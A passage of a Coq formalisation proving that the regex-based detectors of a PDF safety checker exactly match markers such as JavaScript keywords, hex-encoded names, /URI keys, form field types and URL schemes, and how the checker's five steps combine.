      destruct Hw as [Hw|Hw]; rewrite (spells_prefix _ _ b Hw).
      * discriminate.
      * destruct (prefix_i "javascript" (w ++ b)) as [[]|]; discriminate.
Qed.

(** [jsWordRegex] has no word boundary. *)
Lemma jsWordRegex_inside_word a w b :
  spells_i "js" w -> MatchString jsWordRegex (a ++ w ++ b) = true.
Proof. intros H. apply jsWordRegex_spec. exists a, w, b. auto. Qed.

Lemma jsHexAngle_spec t : MatchString jsHexAngle t = true <-> has_angle_hex t.
Proof.
  split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run jsHexAngle (Cur (last_byte a None) s)) as [|e l] eqn:E;
      [congruence|].
    assert (In e (run jsHexAngle (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    clear H E. apply in_run_concat_inv in Hin as (c1 & H1 & H2).
    rewrite run_lit1 in H1 by reflexivity.
    destruct s as [|b t]; [destruct H1|].
    destruct (N.eqb_spec (code "<") (code b)) as [Eb|Eb]; [|destruct H1].
    apply code_inj in Eb. subst b. destruct H1 as [<-|[]].
    apply in_run_concat_inv in H2 as (c2 & H2 & H3).
    pose proof H2 as H2'.
    apply run_span_of with (P := fun b => is_hex_byte b = true) in H2;
      [|apply hex_built; unfold at_least, times; repeat constructor].
    destruct H2 as (h & Sh & Fh).
    apply in_run_concat_inv in H2' as (c1' & H4 & H5).
    apply run_times_len in H4; [|apply consuming_class].
    apply run_span in H5 as (w5 & S5). apply span_length in S5.
    pose proof (span_length _ _ _ Sh) as Lh.
    destruct Sh as [Sh _]. cbn [rest] in *.
    destruct c2 as [q2 s2]. cbn [rest] in *.
    rewrite run_lit1 in H3 by reflexivity.
    destruct s2 as [|b2 t2]; [destruct H3|].
    destruct (N.eqb_spec (code ">") (code b2)) as [Eb|Eb]; [|destruct H3].
    apply code_inj in Eb. subst b2.
    exists a, h, t2. subst t. repeat split; [lia | exact Fh].
  - intros (a & h & b & -> & L & Fh).
    apply MatchString_intro; [now apply rune_start_ascii|].
    assert (exists e, In e (run jsHexAngle
              (Cur (last_byte a None) ("<"%char :: h ++ ">"%char :: b))))
      as [e He]; [|intros E; now rewrite E in He].
    rewrite <- (firstn_skipn 4 h), <- app_assoc.
    rewrite <- (firstn_skipn 4 h) in Fh. apply Forall_app in Fh as [F4 F'].
    exists (Cur (Some ">"%char) b).
    apply in_run_concat
      with (c1 := Cur (Some "<"%char) (firstn 4 h ++ skipn 4 h ++ ">"%char :: b)).
    { rewrite run_lit1 by reflexivity. now left. }
    apply in_run_concat
      with (c1 := Cur (last_byte (skipn 4 h)
                         (last_byte (firstn 4 h) (Some "<"%char)))
                      (">"%char :: b)).
    + apply in_run_concat
        with (c1 := Cur (last_byte (firstn 4 h) (Some "<"%char))
                        (skipn 4 h ++ ">"%char :: b)).
      * apply in_run_times_hex; [|exact F4]. rewrite firstn_length_le; lia.
      * apply in_run_star_class; [apply is_hex_ascii | exact F'].
    + rewrite run_lit1 by reflexivity. now left.
Qed.

(** ** Markers

    A slash, optional whitespace and a keyword; a field type followed by its
    value; a URL scheme after a word boundary. *)

(** [(?i)/\s*KEYWORD] *)
Lemma slash_keyword_match kw pre ws w post :
  is_ascii (str kw) -> Forall (fun b => is_space_byte b = true) ws ->
  spells_i kw w ->
  MatchString (lit_i "/" ;; star space ;; lit_i kw)%re
    (pre ++ "/"%char :: ws ++ w ++ post) = true.
Proof.
  intros Hk Hws Hw.
  apply MatchString_intro; [now apply rune_start_ascii|].
  eapply in_nonempty.
  apply (in_run_lit_ws "/" (lit_i kw) ["/"%char] ws _ (w ++ post));
    [repeat constructor | reflexivity | exact Hws |].
  apply in_run_lit_i; assumption.
Qed.

(** A slash, whitespace and a keyword survive whitespace collapsing as a
    match of [(?i)/\s*KEYWORD]. *)
Lemma slash_keyword_collapsed c kw' pre ws w post :
  is_ascii (str (String c kw')) -> no_space (String c kw') ->
  Forall (fun b => is_space_byte b = true) ws ->
  spells_i (String c kw') w ->
  MatchString (lit_i "/" ;; star space ;; lit_i (String c kw'))%re
    (collapseWhitespace (pre ++ "/"%char :: ws ++ w ++ post)) = true.
Proof.
  intros Ha Hn Hws Hw. rewrite collapseWhitespace_squeeze.
  rewrite squeeze_app_byte by reflexivity.
  destruct (squeeze_gap ws w post Hws
              (prefix_i_nonspace _ _ _ _ Hn Hw) (spells_nonempty _ _ _ Hw))
    as (ws' & Hws' & ->).
  now apply slash_keyword_match.
Qed.

(** [(?i)/\s*FT\s*/\s*SUBTYPE] *)
Lemma field_type_match sub pre ws1 ft ws2 ws3 w post :
  is_ascii (str sub) ->
  Forall (fun b => is_space_byte b = true) ws1 ->
  Forall (fun b => is_space_byte b = true) ws2 ->
  Forall (fun b => is_space_byte b = true) ws3 ->
  spells_i "FT" ft -> spells_i sub w ->
  MatchString
    (lit_i "/" ;; star space ;; lit_i "FT" ;; star space ;; lit_i "/"
       ;; star space ;; lit_i sub)%re
    (pre ++ "/"%char :: ws1 ++ ft ++ ws2 ++ "/"%char :: ws3 ++ w ++ post) = true.
Proof.
  intros Ha H1 H2 H3 Hft Hw.
  apply MatchString_intro; [now apply rune_start_ascii|].
  eapply in_nonempty.
  apply (in_run_lit_ws "/" _ ["/"%char] ws1);
    [repeat constructor | reflexivity | exact H1 |].
  apply (in_run_lit_ws "FT" _ ft ws2);
    [repeat constructor | exact Hft | exact H2 |].
  apply (in_run_lit_ws "/" _ ["/"%char] ws3 _ (w ++ post));
    [repeat constructor | reflexivity | exact H3 |].
  apply in_run_lit_i; assumption.
Qed.

(** [(?i)\bhttps?://] *)
Lemma http_match q w s :
  IsWordChar q = false -> spells_i "http://" w \/ spells_i "https://" w ->
  run http_rx (Cur q (w ++ s)) <> [].
Proof.
  intros Hq Hw.
  apply in_nonempty with (x := Cur (last_byte w q) s).
  apply in_run_boundary; [exact Hq | |].
  { destruct Hw as [Hw|Hw];
      eapply spells_head_word; eauto using fold_class_h_word. }
  destruct Hw as [Hw|Hw].
  - apply (in_run_lit_i _ _ q s) in Hw; [|repeat constructor].
    change (lit_i "http://") with (lit_i ("http" ++ "://")) in Hw.
    rewrite run_lit_i_app in Hw. apply in_flat_map in Hw as (c1 & H1 & H2).
    eapply in_run_concat; [exact H1|].
    eapply in_run_concat; [|exact H2].
    cbn [opt run]. apply in_or_app. right. now left.
  - apply (in_run_lit_i _ _ q s) in Hw; [|repeat constructor].
    change (lit_i "https://") with (lit_i ("http" ++ "s://")) in Hw.
    rewrite run_lit_i_app in Hw. apply in_flat_map in Hw as (c1 & H1 & H2).
    change (lit_i "s://") with (Concat (chr_i "s") (lit_i "://")) in H2.
    apply in_run_concat_inv in H2 as (c2 & H2 & H3).
    eapply in_run_concat; [exact H1|].
    eapply in_run_concat; [|exact H3].
    unfold opt. cbn [run]. apply in_or_app. now left.
Qed.

(** [(?i)\bSCHEME://] for a scheme that starts with a word character. *)
Lemma scheme_match (c : ascii) pat q w s :
  (forall b, fold_class c (code b) = true -> IsWordChar (Some b) = true) ->
  fold_class c 383%N = false -> fold_class c 8490%N = false ->
  is_ascii (str (String c pat)) ->
  IsWordChar q = false -> spells_i (String c pat) w ->
  run (WordBoundary ;; lit_i (String c pat))%re (Cur q (w ++ s)) <> [].
Proof.
  intros Hc H1 H2 Ha Hq Hw.
  apply in_nonempty with (x := Cur (last_byte w q) s).
  apply in_run_boundary; [exact Hq | |].
  - eapply spells_head_word; eauto.
  - now apply in_run_lit_i.
Qed.

(** ** The steps of [Check]

    [Check] as the first error of its five steps. *)

Lemma Check_unfold data :
  Check data =
  first_error [checkStructure data; checkForJavaScript data;
               checkForForms data; checkForExternalReferences data;
               checkForEmbeddedFiles data].
Proof.
  unfold Check, checkStructure. cbn [first_error].
  destruct (length data =? 0); [reflexivity|].
  destruct (negb (Contains (firstn (header_limit data) data) (str "%PDF-")));
    [reflexivity|].
  destruct (checkForJavaScript data); [reflexivity|].
  destruct (checkForForms data); [reflexivity|].
  destruct (checkForExternalReferences data); [reflexivity|].
  destruct (checkForEmbeddedFiles data); reflexivity.
Qed.

(** A direct pattern decides the script detector. *)
Lemma checkForJavaScript_direct data :
  any_match jsPatterns (collapseWhitespace (stripStreams data)) = true ->
  checkForJavaScript data = Some ErrJavaScriptDetected.
Proof. intros H. unfold checkForJavaScript. now rewrite H. Qed.

(** The script detector returns its own error or none. *)
Lemma checkForJavaScript_kind data :
  checkForJavaScript data = None \/
  checkForJavaScript data = Some ErrJavaScriptDetected.
Proof.
  unfold checkForJavaScript.
  repeat match goal with |- context [if ?b then _ else _] => destruct b end;
    auto.
Qed.

(** After a valid header the script detector decides first. *)
Lemma Check_script data :
  checkStructure data = None ->
  checkForJavaScript data = Some ErrJavaScriptDetected ->
  Check data = Some ErrJavaScriptDetected.
Proof. intros H1 H2. rewrite Check_unfold, H1, H2. reflexivity. Qed.

Lemma Check_not_script data :
  checkForJavaScript data = None -> Check data <> Some ErrJavaScriptDetected.
Proof.
  intros H. rewrite Check_unfold, H. cbn [first_error].
  unfold checkStructure, checkForForms, checkForExternalReferences,
    checkForEmbeddedFiles.
  repeat match goal with |- context [if ?b then _ else _] => destruct b end;
    discriminate.
Qed.

(** The header is looked for in the first 1024 bytes. *)
Lemma header_limit_min data : header_limit data = Nat.min 1024 (length data).
Proof.
  unfold header_limit. destruct (Nat.ltb_spec (length data) 1024); lia.
Qed.

Lemma checkStructure_spec data :
  checkStructure data = None <->
  data <> [] /\
  exists a b, firstn (Nat.min 1024 (length data)) data = a ++ str "%PDF-" ++ b.
Proof.
  unfold checkStructure. rewrite header_limit_min.
  destruct data as [|x data]; [split; [discriminate | intros [H _]; congruence]|].
  cbn [length Nat.eqb].
  destruct (Contains _ (str "%PDF-")) eqn:E; cbn [negb].
  - apply Contains_spec in E. split; [|reflexivity]. intros _.
    split; [discriminate | exact E].
  - split; [discriminate|]. intros [_ H]. apply Contains_spec in H.
    cbn [length] in H. congruence.
Qed.

(** ** Inversion of a match

    What a match consumed, read back from the membership of its last cursor
    in [run]. *)

(** A match of a case-insensitive literal consumed a spelling of its word. *)
Lemma in_run_lit_i_inv pat q s e :
  is_ascii (str pat) -> In e (run (lit_i pat) (Cur q s)) ->
  exists w t, spells_i pat w /\ s = w ++ t /\ e = Cur (last_byte w q) t.
Proof.
  intros Hp H. rewrite run_lit_i in H by assumption.
  destruct (prefix_i pat s) as [[w t]|] eqn:E; [|destruct H].
  destruct H as [<-|[]]. apply prefix_spells in E as [Hw ->].
  now exists w, t.
Qed.

(** A match of [\s*] consumed whitespace. *)
Lemma in_run_star_space_inv g c e :
  In e (run (Star g space) c) ->
  exists ws, Forall (fun b => is_space_byte b = true) ws /\ span c e ws.
Proof.
  intros H.
  apply run_span_of with (P := fun b => is_space_byte b = true) in H.
  - destruct H as (ws & Hs & Hf). now exists ws.
  - apply bf_star, bf_class. apply (class_eats_ascii is_space is_space_ascii).
Qed.

(** [\b] consumes nothing. *)
Lemma in_run_boundary_inv c e :
  In e (run WordBoundary c) -> e = c /\ at_word_boundary c = true.
Proof.
  cbn [run]. destruct (at_word_boundary c); [|intros []].
  intros [<-|[]]. now split.
Qed.

Lemma in_run_hex_inv r c e :
  built_from (fun p => p = is_hex) r -> In e (run r c) ->
  exists h, span c e h /\ Forall (fun b => is_hex_byte b = true) h.
Proof.
  intros Hb H.
  apply run_span_of with (P := fun b => is_hex_byte b = true) in H; [exact H|].
  now apply hex_built.
Qed.

Lemma xorb_true_l_false b : xorb true b = true -> b = false.
Proof. now destruct b. Qed.

Lemma xorb_true_r_false b : xorb b true = true -> b = false.
Proof. now destruct b. Qed.

(** [n] copies of a pattern that consumes [k] bytes or more consume [n * k]
    bytes or more. *)
Lemma run_times_least k r :
  (forall c e, In e (run r c) -> length (rest e) + k <= length (rest c)) ->
  forall n c e,
    In e (run (times n r) c) -> length (rest e) + n * k <= length (rest c).
Proof.
  intros Hr. induction n as [|n IH]; intros c e H.
  - destruct H as [<-|[]]. lia.
  - apply in_run_concat_inv in H as (c1 & H1 & H2).
    apply Hr in H1. apply IH in H2. lia.
Qed.

(** The text before the match found, the match, and the text after it. *)
Lemma find_decomp r q t cs ce :
  find r (Cur q t) = Some (cs, ce) ->
  exists a w, t = a ++ w ++ rest ce /\ between (Cur q t) cs = a /\
              rest cs = w ++ rest ce.
Proof.
  intros H. apply find_sound in H as (a1 & s1 & l & -> & -> & Hr).
  assert (In ce (run r (Cur (last_byte a1 q) s1))) as Hin
    by (rewrite Hr; now left).
  apply run_span in Hin as (w & [Sw _]). cbn [rest] in Sw. subst s1.
  exists a1, w. repeat split. apply between_app.
Qed.

Lemma MatchString_false_find r t :
  MatchString r t = false -> find r (Cur None t) = None.
Proof.
  unfold MatchString, start. now destruct (find r (Cur None t)) as [[]|].
Qed.

(** ** Punctuation and spellings *)

(** A punctuation character is spelled by itself only. *)
Lemma spells_punct c w :
  punct c -> spells_i (String c EmptyString) w -> w = [c].
Proof.
  intros [Hc Ho]. unfold spells_i, prefix_i.
  cbn [str list_ascii_of_string map eat_seq]. unfold eat_class, fold_class.
  rewrite Ho. unfold mem_rune. cbn [existsb]. rewrite !orb_false_r.
  destruct w as [|b w]; [discriminate|].
  assert ((383 =? code c)%N = false) as -> by (apply N.eqb_neq; lia).
  assert ((8490 =? code c)%N = false) as -> by (apply N.eqb_neq; lia).
  cbn [andb].
  destruct (code b <? 128)%N; [|discriminate].
  destruct (N.eqb_spec (code b) (code c)) as [E|E]; [|discriminate].
  apply code_inj in E. subst b. intros H. now injection H as ->.
Qed.

Lemma punct_spells c : punct c -> spells_i (String c EmptyString) [c].
Proof.
  intros [Hc Ho]. unfold spells_i, prefix_i.
  cbn [str list_ascii_of_string map eat_seq]. unfold eat_class, fold_class.
  rewrite Ho. unfold mem_rune. cbn [existsb]. rewrite orb_false_r.
  apply N.ltb_lt in Hc. rewrite Hc, N.eqb_refl. reflexivity.
Qed.

Lemma punct_ascii c : punct c -> is_ascii (str (String c EmptyString)).
Proof. intros [Hc _]. repeat constructor. exact Hc. Qed.

Lemma punct_class c y : punct c -> fold_class c y = true -> y = code c.
Proof.
  intros [_ Ho]. unfold fold_class. rewrite Ho. unfold mem_rune. cbn [existsb].
  rewrite orb_false_r. apply N.eqb_eq.
Qed.

Lemma punct_slash : punct "/".
Proof. split; reflexivity. Qed.

Lemma punct_paren : punct "(".
Proof. split; reflexivity. Qed.

Lemma punct_dot : punct ".".
Proof. split; reflexivity. Qed.

Lemma punct_hash : punct "#".
Proof. split; reflexivity. Qed.

Lemma str_snoc pat (c : ascii) :
  str (pat ++ String c EmptyString) = str pat ++ [c].
Proof.
  unfold str. induction pat as [|c' pat IH]; [reflexivity|].
  cbn. now rewrite IH.
Qed.

Lemma fold_class_i_word b :
  fold_class "I" (code b) = true -> IsWordChar (Some b) = true.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

(** A keyword that ends with a letter is spelled with a word byte at its end. *)
Lemma spells_last_word (c : ascii) pat' w q :
  (forall b, fold_class c (code b) = true -> IsWordChar (Some b) = true) ->
  fold_class c 383%N = false -> fold_class c 8490%N = false ->
  spells_i (pat' ++ String c EmptyString) w ->
  IsWordChar (last_byte w q) = true.
Proof.
  intros Hc H1 H2. unfold spells_i, prefix_i.
  rewrite str_snoc, map_app. cbn [map].
  intros H. apply eat_seq_snoc in H as (w1 & t1 & w2 & _ & H & ->).
  rewrite last_byte_app. eapply eat_class_word; eauto.
Qed.

Lemma eat_seq_concat ps1 ps2 : forall s w1 t1 w2 t2,
  eat_seq ps1 s = Some (w1, t1) -> eat_seq ps2 t1 = Some (w2, t2) ->
  eat_seq (ps1 ++ ps2) s = Some (w1 ++ w2, t2).
Proof.
  induction ps1 as [|p ps1 IH]; intros s w1 t1 w2 t2 H1 H2.
  - cbn in H1. injection H1 as <- <-. exact H2.
  - cbn [app eat_seq] in *.
    destruct (eat_class p s) as [[w t]|]; [|discriminate].
    destruct (eat_seq ps1 t) as [[w' t']|] eqn:E; [|discriminate].
    injection H1 as <- <-. rewrite (IH _ _ _ _ _ E H2).
    now rewrite app_assoc.
Qed.

(** Spellings concatenate. *)
Lemma spells_app (p1 p2 : string) w1 w2 :
  spells_i p1 w1 -> spells_i p2 w2 -> spells_i (p1 ++ p2) (w1 ++ w2).
Proof.
  unfold spells_i, prefix_i. intros H1 H2.
  rewrite str_app, map_app.
  apply (eat_seq_ext _ _ _ _ w2) in H1. cbn [app] in H1.
  exact (eat_seq_concat _ _ _ _ _ _ _ H1 H2).
Qed.

Lemma hex_not_space b : is_hex_byte b = true -> negb (is_space_byte b) = true.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

(** Where [index_i] finds nothing, no spelling starts. *)
Lemma index_i_none pat : forall t, index_i pat t = None ->
  forall a s, t = a ++ s -> prefix_i pat s = None.
Proof.
  induction t as [|b t IH]; intros H a s E.
  - destruct a; [|discriminate]. cbn in E. subst s.
    cbn [index_i] in H. now destruct (prefix_i pat []).
  - cbn [index_i] in H.
    destruct (prefix_i pat (b :: t)) eqn:E0; [discriminate|].
    destruct (index_i pat t) eqn:E1; [discriminate|].
    destruct a as [|b' a].
    + cbn in E. now subst s.
    + injection E as _ E. now apply (IH eq_refl a s).
Qed.

Lemma index_i_none_spells pat t a w b :
  index_i pat t = None -> t = a ++ w ++ b -> ~ spells_i pat w.
Proof.
  intros H E Hw. apply (spells_prefix _ _ b) in Hw.
  rewrite (index_i_none _ _ H a (w ++ b) E) in Hw. discriminate.
Qed.

(** ** Exact readings of the patterns

    Each shape of pattern matches the texts that hold its marker, and no
    other. *)

(** [(?i)/\s*KEYWORD], exactly. *)
Lemma slash_rx_spec kw t :
  is_ascii (str kw) ->
  MatchString (slash_rx kw) t = true <-> has_slash_keyword kw t.
Proof.
  intros Hk. split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run (slash_rx kw) (Cur (last_byte a None) s)) as [|e l] eqn:E;
      [congruence|].
    assert (In e (run (slash_rx kw) (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    clear H E. unfold slash_rx in Hin.
    apply in_run_concat_inv in Hin as (c1 & H1 & H2).
    apply in_run_lit_i_inv in H1 as (w1 & t1 & Hw1 & -> & ->);
      [|repeat constructor].
    apply (spells_punct _ _ punct_slash) in Hw1. subst w1.
    apply in_run_concat_inv in H2 as (c2 & H2 & H3).
    apply in_run_star_space_inv in H2 as (ws & Hws & [Sw Pw]).
    destruct c2 as [q2 s2]. cbn [rest prev] in *. subst t1.
    apply in_run_lit_i_inv in H3 as (w & b & Hw & -> & _); [|exact Hk].
    now exists a, ws, w, b.
  - intros (a & ws & w & b & -> & Hws & Hw). now apply slash_keyword_match.
Qed.

(** [(?i)KEYWORD\s*P] for a punctuation character [P], exactly. *)
Lemma call_rx_spec kw c' kw' p t :
  kw = String c' kw' -> is_ascii (str kw) -> punct p ->
  MatchString (call_rx kw (String p EmptyString)) t = true <-> has_call kw p t.
Proof.
  intros Ek Hk Hp. split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run (call_rx kw (String p EmptyString))
                (Cur (last_byte a None) s)) as [|e l] eqn:E; [congruence|].
    assert (In e (run (call_rx kw (String p EmptyString))
                    (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    clear H E. unfold call_rx in Hin.
    apply in_run_concat_inv in Hin as (c1 & H1 & H2).
    apply in_run_lit_i_inv in H1 as (w & t1 & Hw & -> & ->); [|exact Hk].
    apply in_run_concat_inv in H2 as (c2 & H2 & H3).
    apply in_run_star_space_inv in H2 as (ws & Hws & [Sw Pw]).
    destruct c2 as [q2 s2]. cbn [rest prev] in *. subst t1.
    apply in_run_lit_i_inv in H3 as (w3 & b & Hw3 & -> & _);
      [|now apply punct_ascii].
    apply (spells_punct _ _ Hp) in Hw3. subst w3.
    now exists a, w, ws, b.
  - intros (a & w & ws & b & -> & Hws & Hw).
    apply MatchString_intro.
    + subst kw. apply (spells_prefix _ _ (ws ++ p :: b)) in Hw.
      now apply eat_seq_start in Hw.
    + eapply in_nonempty. unfold call_rx.
      apply (in_run_lit_ws kw _ w ws _ (p :: b));
        [exact Hk | exact Hw | exact Hws |].
      apply (in_run_lit_i (String p EmptyString) [p] _ b);
        [now apply punct_ascii | now apply punct_spells].
Qed.

(** [(?i)/\s*FT\s*/\s*SUBTYPE], exactly. *)
Lemma field_type_rx_spec sub t :
  is_ascii (str sub) ->
  MatchString (field_type_rx sub) t = true <-> has_field_type sub t.
Proof.
  intros Hk. split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run (field_type_rx sub) (Cur (last_byte a None) s))
      as [|e l] eqn:E; [congruence|].
    assert (In e (run (field_type_rx sub) (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    clear H E. unfold field_type_rx in Hin.
    apply in_run_concat_inv in Hin as (c1 & H1 & H2).
    apply in_run_lit_i_inv in H1 as (w1 & t1 & Hw1 & -> & ->);
      [|repeat constructor].
    apply (spells_punct _ _ punct_slash) in Hw1. subst w1.
    apply in_run_concat_inv in H2 as (c2 & H2 & H3).
    apply in_run_star_space_inv in H2 as (ws1 & Hws1 & [S1 _]).
    destruct c2 as [q2 s2]. cbn [rest prev] in *. subst t1.
    apply in_run_concat_inv in H3 as (c3 & H3 & H4).
    apply in_run_lit_i_inv in H3 as (ft & t3 & Hft & -> & ->);
      [|repeat constructor].
    apply in_run_concat_inv in H4 as (c4 & H4 & H5).
    apply in_run_star_space_inv in H4 as (ws2 & Hws2 & [S2 _]).
    destruct c4 as [q4 s4]. cbn [rest prev] in *. subst t3.
    apply in_run_concat_inv in H5 as (c5 & H5 & H6).
    apply in_run_lit_i_inv in H5 as (w5 & t5 & Hw5 & -> & ->);
      [|repeat constructor].
    apply (spells_punct _ _ punct_slash) in Hw5. subst w5.
    apply in_run_concat_inv in H6 as (c6 & H6 & H7).
    apply in_run_star_space_inv in H6 as (ws3 & Hws3 & [S3 _]).
    destruct c6 as [q6 s6]. cbn [rest prev] in *. subst t5.
    apply in_run_lit_i_inv in H7 as (w & b & Hw & -> & _); [|exact Hk].
    exists a, ws1, ft, ws2, ws3, w, b. now repeat split.
  - intros (a & ws1 & ft & ws2 & ws3 & w & b & -> & H1 & H2 & H3 & Hft & Hw).
    now apply field_type_match.
Qed.

(** Collapsing keeps the kind of the first byte. *)
Lemma squeeze_head_word s :
  IsWordChar (hd_error (squeeze false s)) = IsWordChar (hd_error s).
Proof.
  destruct s as [|b s]; [reflexivity|]. cbn [squeeze].
  destruct (is_space_byte b) eqn:E; [|reflexivity].
  cbn [hd_error]. now rewrite (space_not_word b E).
Qed.

Lemma uri_key_match t : has_uri_key t -> MatchString uri_key_rx t = true.
Proof.
  intros (a & ws & w & b & -> & Hws & Hw & Hb).
  apply MatchString_intro; [now apply rune_start_ascii|].
  eapply in_nonempty. unfold uri_key_rx.
  apply (in_run_lit_ws "/" _ ["/"%char] ws _ (w ++ b));
    [repeat constructor | reflexivity | exact Hws |].
  eapply in_run_concat.
  - apply in_run_lit_i; [repeat constructor | exact Hw].
  - cbn [run]. unfold at_word_boundary. cbn [prev rest].
    rewrite Hb.
    rewrite (spells_last_word "I" "UR" w _ fold_class_i_word eq_refl eq_refl
               Hw).
    now left.
Qed.

(** [(?i)/\s*URI\b], exactly. *)
Lemma uri_key_spec t : MatchString uri_key_rx t = true <-> has_uri_key t.
Proof.
  split; [|apply uri_key_match].
  intros H. apply MatchString_elim in H as (a & s & -> & H).
  destruct (run uri_key_rx (Cur (last_byte a None) s)) as [|e l] eqn:E;
    [congruence|].
  assert (In e (run uri_key_rx (Cur (last_byte a None) s))) as Hin
    by (rewrite E; now left).
  clear H E. unfold uri_key_rx in Hin.
  apply in_run_concat_inv in Hin as (c1 & H1 & H2).
  apply in_run_lit_i_inv in H1 as (w1 & t1 & Hw1 & -> & ->);
    [|repeat constructor].
  apply (spells_punct _ _ punct_slash) in Hw1. subst w1.
  apply in_run_concat_inv in H2 as (c2 & H2 & H3).
  apply in_run_star_space_inv in H2 as (ws & Hws & [Sw _]).
  destruct c2 as [q2 s2]. cbn [rest prev] in *. subst t1.
  apply in_run_concat_inv in H3 as (c3 & H3 & H4).
  apply in_run_lit_i_inv in H3 as (w & b & Hw & -> & ->);
    [|repeat constructor].
  apply in_run_boundary_inv in H4 as [_ H4].
  unfold at_word_boundary in H4. cbn [prev rest] in H4.
  rewrite (spells_last_word "I" "UR" w _ fold_class_i_word eq_refl eq_refl Hw)
    in H4.
  apply xorb_true_l_false in H4.
  now exists a, ws, w, b.
Qed.

Lemma scheme_rx_inv (c : ascii) pat q s e :
  (forall b, fold_class c (code b) = true -> IsWordChar (Some b) = true) ->
  fold_class c 383%N = false -> fold_class c 8490%N = false ->
  is_ascii (str (String c pat)) ->
  In e (run (WordBoundary ;; lit_i (String c pat))%re (Cur q s)) ->
  exists w b, s = w ++ b /\ spells_i (String c pat) w /\ IsWordChar q = false.
Proof.
  intros Hc H1 H2 Ha H.
  apply in_run_concat_inv in H as (c1 & Hb & Hl).
  apply in_run_boundary_inv in Hb as [-> Hb].
  apply in_run_lit_i_inv in Hl as (w & b & Hw & -> & _); [|exact Ha].
  exists w, b. repeat split; auto.
  unfold at_word_boundary in Hb. cbn [prev rest] in Hb.
  rewrite (spells_head_word c pat w b Hc H1 H2 Hw) in Hb.
  now apply xorb_true_r_false in Hb.
Qed.

(** [(?i)\bSCHEME://], exactly, for a scheme that starts with a word
    character. *)
Lemma scheme_rx_spec (c : ascii) pat t :
  (forall b, fold_class c (code b) = true -> IsWordChar (Some b) = true) ->
  fold_class c 383%N = false -> fold_class c 8490%N = false ->
  is_ascii (str (String c pat)) ->
  MatchString (WordBoundary ;; lit_i (String c pat))%re t = true <->
  has_scheme (String c pat) t.
Proof.
  intros Hc H1 H2 Ha. split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run _ (Cur (last_byte a None) s)) as [|e l] eqn:E; [congruence|].
    assert (In e (run (WordBoundary ;; lit_i (String c pat))%re
                    (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    apply scheme_rx_inv in Hin as (w & b & -> & Hw & Hq); auto.
    now exists a, w, b.
  - intros (a & w & b & -> & Hq & Hw).
    apply MatchString_intro.
    + apply (spells_prefix _ _ b) in Hw. now apply eat_seq_start in Hw.
    + now apply scheme_match.
Qed.

(** [(?i)\bhttps?://], exactly. *)
Lemma http_rx_spec t :
  MatchString http_rx t = true <->
  has_scheme "http://" t \/ has_scheme "https://" t.
Proof.
  split.
  - intros H. apply MatchString_elim in H as (a & s & -> & H).
    destruct (run http_rx (Cur (last_byte a None) s)) as [|e l] eqn:E;
      [congruence|].
    assert (In e (run http_rx (Cur (last_byte a None) s))) as Hin
      by (rewrite E; now left).
    clear H E. unfold http_rx in Hin.
    apply in_run_concat_inv in Hin as (c1 & Hb & H1).
    apply in_run_boundary_inv in Hb as [-> Hb].
    apply in_run_concat_inv in H1 as (c2 & H1 & H2).
    apply in_run_lit_i_inv in H1 as (w1 & t1 & Hw1 & -> & ->);
      [|repeat constructor].
    assert (IsWordChar (last_byte a None) = false) as Hq.
    { unfold at_word_boundary in Hb. cbn [prev rest] in Hb.
      rewrite (spells_head_word "h" "ttp" w1 t1 fold_class_h_word
                 eq_refl eq_refl Hw1) in Hb.
      now apply xorb_true_r_false in Hb. }
    apply in_run_concat_inv in H2 as (c3 & H2 & H3).
    unfold opt in H2. cbn [run] in H2. apply in_app_or in H2 as [H2|H2].
    + assert (In c3 (run (lit_i "s")
                       (Cur (last_byte w1 (last_byte a None)) t1))) as H2'.
      { apply in_run_concat with (c1 := c3); [exact H2 | now left]. }
      apply in_run_lit_i_inv in H2' as (w2 & t2 & Hw2 & -> & ->);
        [|repeat constructor].
      apply in_run_lit_i_inv in H3 as (w3 & b & Hw3 & -> & _);
        [|repeat constructor].
      right. exists a, (w1 ++ w2 ++ w3), b. repeat split; auto.
      * now rewrite <- !app_assoc.
      * apply (spells_app "http" "s://"); [exact Hw1|].
        now apply (spells_app "s" "://").
    + destruct H2 as [<-|[]].
      apply in_run_lit_i_inv in H3 as (w3 & b & Hw3 & -> & _);
        [|repeat constructor].
      left. exists a, (w1 ++ w3), b. repeat split; auto.
      * now rewrite <- !app_assoc.
      * now apply (spells_app "http" "://").
  - intros [H|H]; destruct H as (a & w & b & -> & Hq & Hw);
      (apply MatchString_intro;
       [apply (spells_prefix _ _ b) in Hw; now apply eat_seq_start in Hw
       |apply http_match; auto]).
Qed.

Lemma js_hex_call_match a w ws h b :
  spells_i "JS(" w -> Forall (fun x => is_space_byte x = true) ws ->
  Forall (fun x => is_hex_byte x = true) h -> 2 <= length h ->
  MatchString js_hex_call_rx (a ++ w ++ ws ++ "#"%char :: h ++ b) = true.
Proof.
  intros Hw Hws Hh Lh.
  apply MatchString_intro.
  { apply (spells_prefix _ _ (ws ++ "#"%char :: h ++ b)) in Hw.
    now apply eat_seq_start in Hw. }
  assert (Datatypes.length (firstn 2 h) = 2) as L2
    by (rewrite firstn_length_le; lia).
  rewrite <- (firstn_skipn 2 h) in Hh |- *. apply Forall_app in Hh as [F2 F'].
  rewrite <- app_assoc.
  eapply in_nonempty. unfold js_hex_call_rx.
  apply (in_run_lit_ws "JS(" _ w ws _
           ("#"%char :: firstn 2 h ++ skipn 2 h ++ b));
    [repeat constructor | exact Hw | exact Hws |].
  eapply in_run_concat.
  { apply (in_run_lit_i "#" ["#"%char] _ (firstn 2 h ++ skipn 2 h ++ b));
      [repeat constructor | reflexivity]. }
  unfold plus. eapply in_run_concat; [|apply in_run_star_nil].
  unfold at_least. eapply in_run_concat.
  - apply in_run_times_hex; [exact L2 | exact F2].
  - apply in_run_star_class; [apply is_hex_ascii | exact F'].
